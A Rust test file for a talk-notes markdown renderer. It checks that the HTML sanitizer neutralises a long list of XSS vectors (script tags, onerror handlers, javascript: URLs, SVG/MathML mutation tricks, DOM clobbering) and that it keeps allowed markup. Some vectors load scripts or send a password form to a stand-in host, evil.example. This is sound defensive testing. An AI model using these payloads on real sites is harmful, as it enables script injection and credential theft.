//! Rendering as the rest of the program sees it: hostile notes, and real ones where they are at hand.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    missing_docs
)]

use std::path::PathBuf;

use talknotes::api::{Speaker, SummitSpec, TalkNoteSpec};
use talknotes::render;

/// An opening tag of sanitized HTML.
#[derive(Debug)]
struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

/// Reads HTML as the sanitizer writes it and nothing looser: a bracket or quote anywhere else is a
/// failure, so what a browser sees is what is read here. Gives the opening tags and the text.
fn read(html: &str) -> (Vec<Tag>, String) {
    let mut tags = Vec::new();
    let mut text = String::new();
    let mut open: Vec<String> = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        assert!(!rest[..at].contains('>'), "a bracket in text: {html}");
        text.push_str(&rest[..at]);
        rest = &rest[at + 1..];
        if let Some(closing) = rest.strip_prefix('/') {
            let (name, after) = closing.split_once('>').expect("an end");
            assert_eq!(open.pop().as_deref(), Some(name), "{html}");
            rest = after;
            continue;
        }
        let end = rest.find(|c: char| !c.is_ascii_alphanumeric()).expect("a name");
        let mut tag = Tag { name: rest[..end].to_owned(), attributes: Vec::new() };
        assert!(!tag.name.is_empty(), "{html}");
        rest = &rest[end..];
        while let Some(attribute) = rest.strip_prefix(' ') {
            let (name, value) = attribute.split_once("=\"").expect("a value");
            assert!(name.chars().all(|c| c.is_ascii_lowercase() || c == '-'), "{name:?} in {html}");
            let (value, after) = value.split_once('"').expect("a quote");
            tag.attributes.push((name.to_owned(), unescape(value)));
            rest = after;
        }
        rest = rest.strip_prefix('>').unwrap_or_else(|| panic!("no end of a tag: {html}"));
        if !matches!(tag.name.as_str(), "br" | "hr" | "img" | "input" | "col" | "wbr") {
            open.push(tag.name.clone());
        }
        tags.push(tag);
    }
    assert!(!rest.contains('>'), "a bracket in text: {html}");
    text.push_str(rest);
    assert!(open.is_empty(), "{open:?} is left open: {html}");
    (tags, unescape(&text))
}

fn unescape(text: &str) -> String {
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&nbsp;", "\u{a0}")
        .replace("&amp;", "&")
}

const TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "label",
    "li",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

const ATTRIBUTES: &[&str] = &[
    "align",
    "alt",
    "aria-label",
    "aria-labelledby",
    "checked",
    "class",
    "colspan",
    "data-language",
    "data-line",
    "datetime",
    "decoding",
    "dir",
    "disabled",
    "height",
    "href",
    "hreflang",
    "id",
    "lang",
    "loading",
    "open",
    "referrerpolicy",
    "rel",
    "role",
    "rowspan",
    "scope",
    "span",
    "src",
    "start",
    "title",
    "type",
    "width",
];

/// Fails unless `html` is harmless to whoever puts it into a page.
fn assert_harmless(html: &str) {
    for tag in read(html).0 {
        assert!(TAGS.contains(&tag.name.as_str()), "{tag:?} in {html}");
        for (name, value) in &tag.attributes {
            assert!(ATTRIBUTES.contains(&name.as_str()), "{tag:?} in {html}");
            match name.as_str() {
                "href" | "src" => assert_harmless_url(value, html),
                "id" | "aria-labelledby" => {
                    assert!(value.starts_with("note-"), "{value:?} in {html}")
                }
                "type" => assert_eq!(value, "checkbox"),
                "role" => assert_eq!(value, "note"),
                "width" | "height" => {
                    assert!(
                        value.trim_end_matches('%').parse::<u16>().is_ok(),
                        "{value:?} in {html}"
                    );
                }
                _ => {}
            }
        }
        let has = |name: &str| tag.attributes.iter().any(|(found, _)| found == name);
        assert!(tag.name != "a" || has("rel"), "{tag:?} in {html}");
        assert!(tag.name != "img" || has("referrerpolicy"), "{tag:?} in {html}");
        assert!(tag.name != "input" || has("disabled"), "{tag:?} in {html}");
    }
}

/// A browser drops tabs and line ends from a URL, and control characters at its ends, before it looks
/// for the scheme.
fn assert_harmless_url(url: &str, html: &str) {
    let url: String = url.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    let url = url.trim_matches(|c: char| c <= ' ');
    let scheme = url.split(['/', '?', '#']).next().and_then(|start| start.split_once(':'));
    if let Some((scheme, _)) = scheme {
        let scheme = scheme.to_ascii_lowercase();
        // With any other character in it, it is the path of a relative URL.
        let is_scheme = scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c));
        assert!(
            !is_scheme || ["http", "https", "mailto"].contains(&scheme.as_str()),
            "{url:?} in {html}"
        );
    }
}

/// Rendered, and the same after the viewer's sanitizing.
fn html(markdown: &str) -> String {
    let spec = TalkNoteSpec { title: "蟹".into(), ..TalkNoteSpec::default() };
    let html = render::note("ferris", &spec, markdown).html;
    assert_eq!(render::sanitize_published(&html), html, "{markdown}");
    html
}

#[test]
fn html_in_notes_does_no_harm() {
    let vectors = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<<script>alert(1);//<</script>",
        "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</title><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<IMG SRC=javascript:alert(1)>",
        "<img src='java\tscript:alert(1)'>",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<img src=\" &#14; javascript:alert(1)\">",
        "<image src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">a</a>",
        "<a href=\"&#106;avascript:alert(1)\">a</a>",
        "<a href=\"JaVa\nScRiPt:alert(1)\">a</a>",
        "<a href=\"\u{1}javascript:alert(1)\">a</a>",
        "<a href=\"data:text/html;base64,AAAA\">a</a>",
        "<a href=\"vbscript:x\">a</a>",
        "<a href=\"java\u{2028}script:alert(1)\">a</a>",
        "<a href=x ping=//evil.example target=_top download>a</a>",
        "<body onload=alert(1)>",
        "<div onclick=\"alert(1)\" style=\"background:url(javascript:alert(1))\">a</div>",
        "<p style=\"position:fixed;inset:0\">a</p>",
        "<style>@import '//evil.example';</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=//evil.example/>",
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=x <",
        "<object data=x></object><embed src=x>",
        "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>a</button></form>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=\"javascript:alert(1)\">a</math>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<textarea></textarea><script>alert(1)</script>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<table><td background=javascript:alert(1)>a</td></table>",
        "<marquee onstart=alert(1)>a</marquee>",
        "<video><source onerror=alert(1)></video>",
        "<details ontoggle=alert(1) open>a</details>",
        "<input autofocus onfocus=alert(1)>",
        "<select><style></select><img src=x onerror=alert(1)>",
        "<a id=location name=currentScript>a</a>",
        "<img name=body id=cookie src=a>",
        "<form id=documentElement><input id=attributes>",
        "<div id=note-x class=\"page-header\" role=button tabindex=1 contenteditable>a</div>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<T onclick=alert(1)>",
        "<T title=\"<img src=x onerror=alert(1)>\">",
        "<div title=\"<T\"><img src=x onerror=alert(1)>",
        "<img style=\"width:1;}</style><script>alert(1)</script>\">",
        "<img alt=\"<!--\" src=x onerror=alert(1)>-->",
    ];
    for vector in vectors {
        for markdown in [
            vector.to_owned(),
            format!("文字 {vector} 文字"),
            format!("# {vector}\n\n[TOC]\n\n* {vector}\n\n> {vector}"),
            format!("| a |\n|---|\n| {vector} |"),
        ] {
            assert_harmless(&html(&markdown));
        }
    }
}

#[test]
fn markdown_in_notes_does_no_harm() {
    for markdown in [
        "[a](javascript:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](JaVaScRiPt:alert(1))",
        "[a](java&#115;cript:alert(1))",
        "[a](&#x6a;avascript:alert(1))",
        "[a]( javascript:alert(1) )",
        "[a](data:text/html,<script>alert(1)</script>)",
        "<javascript:alert(1)>",
        "![a](javascript:alert(1))",
        "![a](x\"onerror=alert(1))",
        "![\"onerror=alert(1)](x)",
        "![a](x \"t\" onerror=alert(1))",
        "![a](x '\"><script>alert(1)</script>')",
        "[a][b]\n\n[b]: javascript:alert(1)",
        "[a][b]\n\n[b]: x '\" onclick=\"alert(1)'",
        "[a](x \"\\\" onclick=alert(1)\")",
        "https://a.example/\"onclick=alert(1)",
        "https://a.example/<script>alert(1)</script>",
        "www.a.example\"><img/src=x/onerror=alert(1)>",
        "```\"><script>alert(1)</script>\na\n```",
        "```js\" onclick=\"alert(1)\na\n```",
        "``` <img src=x onerror=alert(1)>\na\n```",
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
        ":::info \"><img src=x onerror=alert(1)>\na\n:::",
        ":::spoiler <script>alert(1)</script>\na\n:::",
        ":::spoiler {state=\"open\" onclick=\"alert(1)\"} a\na\n:::",
        ":::\"><script>alert(1)</script>\na\n:::",
        ":::info\" onclick=\"alert(1)\na\n:::",
        "> [!NOTE] <img src=x onerror=alert(1)>\n> a",
        "a[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: b",
        "a[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: b",
        "a^[<script>alert(1)</script>]",
        "[^\" onclick=\"x]: never used",
        "| \"onclick=alert(1) | <img src=x onerror=alert(1)> |\n|---|:--|\n| [a](javascript:x) | `<b onclick=x>` |",
        "![a](x =200x\"onerror=alert(1))",
        "![a\"onerror=alert(1)](x =200x)",
        "![a](javascript:alert(1) =200x)",
        "![a](x \"\"onerror=alert(1)\" =1x)",
        "{%youtube \"onload=alert(1) %}",
        "{%youtube a\"><script>alert(1)</script> %}",
        "{%pdf javascript:alert(1) %}",
        "{%pdf https://a\"onclick=\"x %}",
        "{{< youtube \"onload=alert(1)\" >}}",
        "{%gist ../../x\"y %}",
        "# <img src=x onerror=alert(1)>\n\n[TOC]",
        "# \"onclick=alert(1)\n\n[TOC]",
        "# a\" onclick=\"b `<script>`\n\n[TOC]",
        "[TOC \"onclick=\"x]",
        "# location\n# cookie\n# __proto__",
        "==<script>alert(1)</script>==",
        "++[a](javascript:x)++",
        "~<b onclick=x>~",
        "- [x] <input onfocus=alert(1) autofocus>",
        "###### tags: <script>alert(1)</script>",
        "`a`<script>`</script>`alert(1)",
        "<a href=\"`\">`\" onclick=alert(1)>",
        "[<a href=javascript:x>a</a>](b)",
        "\u{0}<scr\u{0}ipt>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        ":tada\"><script>:",
        "<b><p>*a</b>*<script>x",
        "{漢字|<script>alert(1)</script>}",
        "{漢|\" onclick=\"x}",
        "> [name=<img src=x onerror=alert(1)>] [time=\"><script>] [color=red;background:url(x)]",
        "*[a]: \"><img src=x onerror=alert(1)>\n\na b a",
        "$<script>alert(1)</script>$ $$\"><img src=x>$$",
        "```js=1\"><script> {title=\"<img src=x onerror=alert(1)>\"}\na\n```",
        "```x {1-2,\"onclick=\"}\n<script>\n```",
        "{{< figure src=\"javascript:alert(1)\" caption=\"<script>\" link=\"javascript:x\" >}}",
        "{{< figure src=\"x`onerror=alert(1)\" width=\"1;x\" >}}",
        "{{< youtube id=\"onload=alert(1)\" >}}",
        "{{< notice \"><script>\" \"<img src=x onerror=alert(1)>\" >}}\na\n{{< /notice >}}",
        "{{< highlight \"><script>alert(1)</script> >}}\na\n{{< /highlight >}}",
        "{%x ../../y javascript:alert(1) %}",
        "{%figma https://a\"onclick=\"x %}",
        "<iframe src=\"https://a.example/&quot;onclick=&quot;x\"></iframe>",
        "<iframe src=https://a.example/\"onclick=x></iframe>",
        "<iframe title=\">\" src='https://a.example/<script>'></iframe>",
        "<script src=https://gist.github.com/a/b.js></script>",
        "<script src=https://gist.github.com@evil.example/a/b.js></script>",
        "<object data=\"data:text/html,<script>\"></object>",
        "<img src=x onerror=alert(1)>\n<p align=\"center\"><sub>a&lt;script&gt;</sub></p>",
        "![a](b)\n\n<p align=\"center\"><sub>\" onclick=\"x</sub></p>",
        "a <script>\n: <img src=x onerror=alert(1)>",
        "# a {#\"onclick=x}\n# \"onclick=x {#location}\n\n[TOC]",
        "# A\" onclick=\"b&<>\n# A\" onclick=\"b&<>",
        "[a](hhttps://x\"onclick=\"y) [b](javascript:x) [c]()",
        "* a\n+ <script>alert(1)</script>\n* b",
        "\u{202e}<script>alert(1)</script>\u{202c} <a href=\"x\u{202e}\" title=\"a\u{2066}\">b</a>",
        "<scr\u{200b}ipt>alert(1)</scr\u{200b}ipt> java\u{ad}script:alert(1)",
        ":::info &#34;&#62;&#60;script&#62;: x\na\n:::",
    ] {
        assert_harmless(&html(markdown));
        let spec = SummitSpec {
            title: "蟹".into(),
            overview: Some(markdown.into()),
            ..SummitSpec::default()
        };
        assert_harmless(&render::summit("crab", &spec, Vec::new()).document.overview_html);
    }
}

/// What is told beside the page: titles, names and the first words are text, without what nobody sees.
#[test]
fn what_is_told_of_a_note_is_text_that_can_be_read() {
    let spec = TalkNoteSpec {
        title: "<script>\u{202e}x".into(),
        speakers: vec![Speaker { name: "Eve\u{202e}".into(), ..Speaker::default() }],
        ..TalkNoteSpec::default()
    };
    let note = render::note("ferris", &spec, "a\u{202e}b <b>c</b>\n\n# d\u{2066}e\n");
    let document = &note.document;
    assert_eq!(document.card.title, "<script>x");
    assert_eq!(document.card.speakers[0].name, "Eve");
    assert_eq!(document.sections[0].title, "de");
    assert_eq!(document.excerpt, "ab c");
    let fields: Vec<_> = note.diagnostics.iter().map(|found| found.path.as_str()).collect();
    assert_eq!(fields, ["", "", "spec.title", "spec.speakers[0].name"]);
    let summit = SummitSpec { title: "蟹".into(), ..SummitSpec::default() };
    let summit = render::summit("crab", &summit, vec![document.card.clone()]);
    assert_eq!(summit.document.agenda[0].title, "<script>x");
}

/// What authors may write in HTML comes through, each element with what it may have.
#[test]
fn the_allow_list_lets_through_what_it_should() {
    let same = [
        "<b>a</b>",
        "<i>a</i>",
        "<strong>a</strong>",
        "<em>a</em>",
        "<code>a</code>",
        "<tt>a</tt>",
        "<ins>a</ins>",
        "<del>a</del>",
        "<sup>a</sup>",
        "<sub>a</sub>",
        "<kbd>a</kbd>",
        "<q>a</q>",
        "<samp>a</samp>",
        "<var>a</var>",
        "<s>a</s>",
        "<strike>a</strike>",
        "<abbr>a</abbr>",
        "<bdo dir=\"rtl\">a</bdo>",
        "<cite>a</cite>",
        "<dfn>a</dfn>",
        "<mark>a</mark>",
        "<small>a</small>",
        "<span lang=\"en\">a</span>",
        "<u>a</u>",
        "a<wbr>b",
        "a<br>b",
        "<time datetime=\"2031-05-14\">a</time>",
        "<ruby>a<rp>(</rp><rt>b</rt><rp>)</rp></ruby>",
        "<div align=\"center\">a</div>",
        "<p align=\"right\">a</p>",
        "<pre>a</pre>",
        "<hr>",
        "<blockquote>a</blockquote>",
        "<ol start=\"3\"><li>a</li></ol>",
        "<ul><li>a</li></ul>",
        "<dl><dt>a</dt><dd>b</dd></dl>",
        "<details open=\"\"><summary>a</summary>b</details>",
        "<figure><figcaption>a</figcaption></figure>",
        "<table><caption>a</caption><thead><tr><th scope=\"col\">b</th></tr></thead><tbody><tr>\
         <td align=\"left\" colspan=\"2\" rowspan=\"3\">c</td></tr></tbody><tfoot><tr><td>d</td></tr></tfoot></table>",
    ];
    for element in same {
        assert!(html(element).contains(element), "{element}: {}", html(element));
    }
    for (written, shown) in [
        ("<h1>a</h1>", "<h2>a</h2>"),
        ("<h6>a</h6>", "<h6>a</h6>"),
        ("<div class=\"alert page-head\" id=\"x\">a</div>", "<div class=\"alert\" id=\"note-x\">"),
        ("<img src=\"https://a.example/b\" width=9 height=8 align=left>", "align=\"left\""),
        ("<img src=\"https://a.example/b\" style=\"width:80%\">", "width=\"80%\""),
        (
            "<picture><source srcset=\"https://a.example/c\"><img alt=d src=\"https://a.example/b\"></picture>",
            "alt=\"d\"",
        ),
        ("<a href=\"mailto:a@b.example\">a</a>", "rel=\"noopener noreferrer nofollow ugc\""),
        ("<a href=\"other.md#x\">a</a>", "href=\"other.md#x\""),
        ("<blink2>a</blink2>", "&lt;blink2&gt;a&lt;/blink2&gt;"),
        ("<center>a</center>", "a"),
    ] {
        assert!(html(written).contains(shown), "{written}: {}", html(written));
    }
    for gone in ["style", "srcset", "source", "class=\"page", "h1"] {
        assert!(
            !html("<h1 style=x class=page-head>a</h1><picture><source srcset=b></picture>")
                .contains(gone)
        );
    }
}

#[test]
fn what_stands_for_tables_and_lists_does_no_harm() {
    for vector in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "[a](javascript:alert(1))",
        "</td></table></figure><b onclick=x>",
        "<iframe srcdoc=\"<script>\">",
        "<!--",
        "]]>",
        "&#60;script&#62;",
        "<textarea>",
        "<plaintext>",
        "{{< notice \"<b>\" >}}",
    ] {
        for markdown in [
            format!(
                "```csvpreview {{header=\"true\" title=\"{vector}\"}}\n{vector},{vector}\n\"{vector}\n\"\n```"
            ),
            format!("```csvpreview {{delimiter=\"<\"}}\n{vector}\n```"),
            format!(
                "```markmap {{title=\"{vector}\"}}\n---\n{vector}\n---\n# {vector}\n{vector}\n- {vector}\n```"
            ),
            format!("```markmap\n<!-- {vector} -->\n{vector}\n```\n{vector}"),
            format!("| a |\n|---|\n| b | {vector} | {vector}"),
            format!("{{漢字|{vector}|{vector}}}"),
        ] {
            let html = html(&markdown);
            assert_harmless(&html);
            let spec = SummitSpec { overview: Some(markdown.clone()), ..SummitSpec::default() };
            let overview = render::summit("crab", &spec, Vec::new()).document.overview_html;
            assert_harmless(&overview);
            assert_eq!(render::sanitize_published(&overview), overview, "{markdown}");
        }
    }
}

#[test]
fn what_is_too_much_to_render_does_no_harm() {
    let note = "<script>alert(1)</script>".repeat(30_000);
    let html = html(&note);
    assert!(html.contains("note-plain"));
    assert_harmless(&html);
    assert_eq!(read(&html).1.trim(), note);
}

#[test]
fn the_reader_of_these_tests_sees_harm() {
    for bad in [
        "<script></script>",
        "<p onclick=\"x\"></p>",
        "<p>",
        "<a href=\"javascript:x\" rel=\"x\"></a>",
        "<p title=\"a\"b\"></p>",
    ] {
        assert!(std::panic::catch_unwind(|| assert_harmless(bad)).is_err(), "{bad}");
    }
}

/// The real documents, or nothing where they are not at hand.
fn real_documents() -> Vec<(String, String)> {
    let folder = std::env::var_os("TALKNOTES_SHARED_NOTES").map_or_else(
        || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/notes"),
        PathBuf::from,
    );
    let documents: Vec<_> = std::fs::read_dir(&folder)
        .into_iter()
        .flatten()
        .filter_map(|entry| {
            let path = entry.ok()?.path();
            let is_note = path.extension().is_some_and(|extension| extension == "md");
            is_note.then(|| (path.display().to_string(), std::fs::read_to_string(&path).unwrap()))
        })
        .collect();
    if documents.is_empty() {
        println!("skipped: there are no notes in {}", folder.display());
    }
    documents
}

/// Runs of Han characters.
fn han_words(text: &str) -> Vec<String> {
    text.split(|c| !matches!(c, '\u{3400}'..='\u{9fff}'))
        .filter(|word| !word.is_empty())
        .map(str::to_owned)
        .collect()
}

#[test]
fn real_notes_lose_no_word() {
    for (name, document) in real_documents() {
        let body = document.strip_prefix("---\n").and_then(|rest| rest.split_once("\n---\n"));
        let body = body.map_or(document.as_str(), |(_, body)| body);
        let mut talks: Vec<String> = vec![String::new()];
        for line in body.lines() {
            if line.starts_with("## ") {
                talks.push(String::new());
            }
            let talk = talks.last_mut().unwrap();
            talk.push_str(line);
            talk.push('\n');
        }
        assert!(talks.len() > 10, "{name}");
        for talk in talks.iter().map(String::as_str).chain([body]) {
            let html = html(talk);
            assert_harmless(&html);
            let text = read(&html).1;
            // Comments are not shown, and destinations of links are attributes.
            let mut at = 0;
            for word in han_words(&without_hidden(talk)) {
                let found = text[at..].find(&word);
                assert!(found.is_some(), "{name}: {word} of\n{talk}\nis missing in\n{html}");
                at += found.unwrap();
            }
        }
    }
}

/// `markdown` without comments, destinations of links, and definitions of references.
fn without_hidden(markdown: &str) -> String {
    let mut rest = markdown;
    let mut shown = String::new();
    while let Some((before, after)) = rest.split_once("<!--") {
        shown.push_str(before);
        rest = after.split_once("-->").map_or("", |(_, rest)| rest);
    }
    shown.push_str(rest);
    let mut text = String::new();
    for line in shown.lines().filter(|line| !(line.starts_with('[') && line.contains("]: "))) {
        let mut parts = line.split("](");
        text.push_str(parts.next().unwrap_or_default());
        for part in parts {
            text.push_str(part.split_once(')').map_or("", |(_, after)| after));
        }
        text.push('\n');
    }
    text
}
